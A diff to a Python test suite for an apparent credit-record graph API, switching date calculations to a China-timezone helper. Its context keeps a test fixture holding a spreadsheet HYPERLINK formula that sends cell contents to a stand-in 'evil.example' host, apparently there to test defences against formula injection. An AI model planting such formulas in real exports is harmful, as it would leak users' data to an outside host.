@@ -26,13 +26,14 @@ from api.settings import load_settings
 from graph.store import GraphStore
 from loaders.pipeline import load_files
 from schema.policy import load_policy
+from schema.workdays import china_today
 from tests.api_client import Client, make_key
 from tests.builders import entity, record, role, uscc_code
 from tests.live_server import serve_in_thread
 
 A, B, C, D, E, F, G = (uscc_code(9301 + i) for i in range(7))
 HOLDER = uscc_code(9399)
-DAY = (dt.date.today() - dt.timedelta(days=10)).isoformat()
+DAY = (china_today() - dt.timedelta(days=10)).isoformat()
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 DANGEROUS = {
     A: FORMULA,
@@ -82,13 +83,13 @@ def served(
         record("R1", G, DAY, severity="serious", list="black"),
     ]
     load_files(store, [write_jsonl(rows)], policy=load_policy("nantong"), provider="t",
-               today=dt.date.today())
+               today=china_today())
     keys = {
         "operator": make_key(store, "operator", "ops"),
         "agency": make_key(store, "agency", "bid-platform", unit="finance"),
         "revoked": make_key(store, "agency", "old-platform", unit="finance"),
         "expired": make_key(store, "agency", "lapsed-platform", unit="finance",
-                            expires=dt.date.today() - dt.timedelta(days=1)),
+                            expires=china_today() - dt.timedelta(days=1)),
     }
     revoke_key(store, "old-platform")
     with _serve(store, tmp_path / "data") as (url, audit_dir):
